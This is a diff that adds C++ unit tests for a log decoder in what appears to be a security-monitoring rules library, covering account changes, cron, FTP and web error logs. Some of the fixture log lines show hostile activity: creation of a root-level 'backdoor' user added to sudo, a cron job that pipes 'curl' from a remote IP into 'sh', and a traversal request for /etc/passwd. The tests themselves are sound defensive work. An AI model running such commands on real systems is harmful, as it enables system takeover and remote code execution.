@@ -321,3 +321,107 @@ TEST(RealDataTest, NxlogWindowsEvents) {
 
 }  // namespace
 }  // namespace siper::rules
+
+namespace siper::rules {
+namespace {
+
+std::string G(const Event& ev, const std::string& key) {
+  auto it = ev.fields.find(key);
+  return it == ev.fields.end() ? "<absent>" : it->second;
+}
+
+Event D(std::string_view line) {
+  Event ev;
+  EXPECT_TRUE(DecodeLine(line, "", InputFormat::kAuto, &ev).ok());
+  return ev;
+}
+
+TEST(AccountChangeTest, UseraddGroupaddUsermod) {
+  Event u =
+      D("Nov 28 10:40:00 web1 useradd[4100]: new user: name=backdoor, UID=0, GID=0, home=/root, "
+        "shell=/bin/bash, from=/dev/pts/1");
+  EXPECT_EQ(G(u, "event.action"), "user_created");
+  EXPECT_EQ(G(u, "user.target.name"), "backdoor");
+  EXPECT_EQ(G(u, "user.target.id"), "0");
+  EXPECT_EQ(G(u, "user.target.shell"), "/bin/bash");
+  Event g =
+      D("Nov 28 10:40:00 web1 groupadd[4101]: group added to /etc/group: name=devs, GID=1002");
+  EXPECT_EQ(G(g, "event.action"), "group_created");
+  EXPECT_EQ(G(g, "group.name"), "devs");
+  Event m = D("Nov 28 10:40:01 web1 usermod[4102]: add 'backdoor' to group 'sudo'");
+  EXPECT_EQ(G(m, "event.action"), "user_added_to_group");
+  EXPECT_EQ(G(m, "user.target.name"), "backdoor");
+  EXPECT_EQ(G(m, "group.name"), "sudo");
+  Event d = D("Nov 28 10:40:02 web1 userdel[4103]: delete user 'olduser'");
+  EXPECT_EQ(G(d, "event.action"), "user_deleted");
+  Event p = D(
+      "Nov 28 10:40:03 web1 passwd[4104]: pam_unix(passwd:chauthtok): password changed for alice");
+  EXPECT_EQ(G(p, "event.action"), "password_changed");
+  EXPECT_EQ(G(p, "user.name"), "alice");
+}
+
+TEST(CronTest, Commands) {
+  Event c =
+      D("Nov 28 10:45:01 web1 CRON[5000]: (www-data) CMD (curl -s http://198.51.100.9/x.sh | sh)");
+  EXPECT_EQ(G(c, "event.action"), "cron_command");
+  EXPECT_EQ(G(c, "user.name"), "www-data");
+  EXPECT_EQ(G(c, "process.command_line"), "curl -s http://198.51.100.9/x.sh | sh");
+  Event r = D("Nov 28 10:45:02 web1 crontab[5001]: (root) REPLACE (www-data)");
+  EXPECT_EQ(G(r, "event.action"), "<absent>");  // crontab is not cron; no decoder claims it
+  Event r2 = D("Nov 28 10:45:02 web1 cron[5001]: (root) REPLACE (www-data)");
+  EXPECT_EQ(G(r2, "event.action"), "crontab_replaced");
+}
+
+TEST(FtpTest, VsftpdAndLoghubFtpd) {
+  Event v =
+      D("Nov 28 10:50:00 web1 vsftpd[6000]: [anonymous] FAIL LOGIN: Client \"::ffff:203.0.113.8\"");
+  EXPECT_EQ(G(v, "event.action"), "ftp_login");
+  EXPECT_EQ(G(v, "event.outcome"), "failure");
+  EXPECT_EQ(G(v, "user.name"), "anonymous");
+  EXPECT_EQ(G(v, "source.ip"), "203.0.113.8");
+  Event f =
+      D("Jun 17 07:07:00 combo ftpd[29504]: connection from 24.54.76.216 "
+        "(24-54-76-216.bflony.adelphia.net) at Fri Jun 17 07:07:00 2005 ");
+  EXPECT_EQ(G(f, "event.action"), "ftp_connection");
+  EXPECT_EQ(G(f, "source.ip"), "24.54.76.216");
+  EXPECT_EQ(G(f, "source.domain"), "24-54-76-216.bflony.adelphia.net");
+}
+
+TEST(WebErrorTest, Apache24Apache22Nginx) {
+  Event a =
+      D("[Sat Nov 28 10:55:00.123456 2026] [core:error] [pid 1234:tid 140] [client "
+        "203.0.113.9:50122] AH00126: Invalid URI in request GET /..%2f..%2fetc/passwd HTTP/1.1");
+  EXPECT_EQ(G(a, "source.ip"), "203.0.113.9");
+  EXPECT_EQ(G(a, "source.port"), "50122");
+  EXPECT_EQ(G(a, "log.level"), "error");
+  EXPECT_EQ(G(a, "error.code"), "AH00126");
+  EXPECT_EQ(G(a, "url.original"), "/..%2f..%2fetc/passwd");
+  EXPECT_EQ(G(a, "http.request.method"), "GET");
+  EXPECT_EQ(G(a, "@timestamp"), "2026-11-28T10:55:00.123456Z");
+  Event b =
+      D("[Sat Nov 28 10:55:01 2026] [error] [client 198.51.100.3] File does not exist: "
+        "/var/www/html/phpmyadmin");
+  EXPECT_EQ(G(b, "source.ip"), "198.51.100.3");
+  EXPECT_EQ(G(b, "file.path"), "/var/www/html/phpmyadmin");
+  Event n =
+      D("2026/11/28 10:55:02 [error] 1234#1234: *5 open() \"/usr/share/nginx/html/wp-login.php\" "
+        "failed (2: No such file or directory), client: 192.0.2.44, server: localhost, request: "
+        "\"GET /wp-login.php HTTP/1.1\", host: \"example\"");
+  EXPECT_EQ(G(n, "source.ip"), "192.0.2.44");
+  EXPECT_EQ(G(n, "file.path"), "/usr/share/nginx/html/wp-login.php");
+  EXPECT_EQ(G(n, "url.original"), "/wp-login.php");
+  EXPECT_EQ(G(n, "log.level"), "error");
+  EXPECT_EQ(G(n, "@timestamp"), "2026-11-28T10:55:02Z");
+}
+
+TEST(DecodeLineTest, UnknownTextKeepsOnlyTheMessage) {
+  Event ev;
+  ASSERT_TRUE(DecodeLine("<13>garbage without a date", "/x.log", InputFormat::kAuto, &ev).ok());
+  EXPECT_EQ(G(ev, "message"), "<13>garbage without a date");
+  EXPECT_EQ(G(ev, "log.file.path"), "/x.log");
+  EXPECT_EQ(G(ev, "log.syslog.priority"), "<absent>");
+  EXPECT_TRUE(ev.products.empty());
+}
+
+}  // namespace
+}  // namespace siper::rules
